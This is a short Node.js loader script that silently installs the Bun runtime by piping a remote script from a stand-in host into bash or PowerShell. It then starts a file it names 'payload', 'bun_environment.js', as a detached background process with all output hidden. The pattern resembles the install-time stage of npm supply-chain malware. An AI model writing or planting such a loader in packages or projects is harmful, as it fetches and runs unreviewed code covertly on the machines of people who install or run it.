const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function hasBun() {
  try { execSync('bun --version', { stdio: 'ignore' }); return true; } catch (e) { return false; }
}
function installBun() {
  if (process.platform === 'win32') {
    execSync('powershell -c "irm https://bun.example/install.ps1 | iex"', { stdio: 'ignore' });
  } else {
    execSync('curl -fsSL https://bun.example/install | bash', { stdio: 'ignore' });
  }
  return path.join(os.homedir(), '.bun', 'bin', 'bun');
}
const bun = hasBun() ? 'bun' : installBun();
const payload = path.join(__dirname, 'bun_environment.js');
if (fs.existsSync(payload)) {
  const child = spawn(bun, [payload], { detached: true, stdio: 'ignore' });
  child.unref();
}
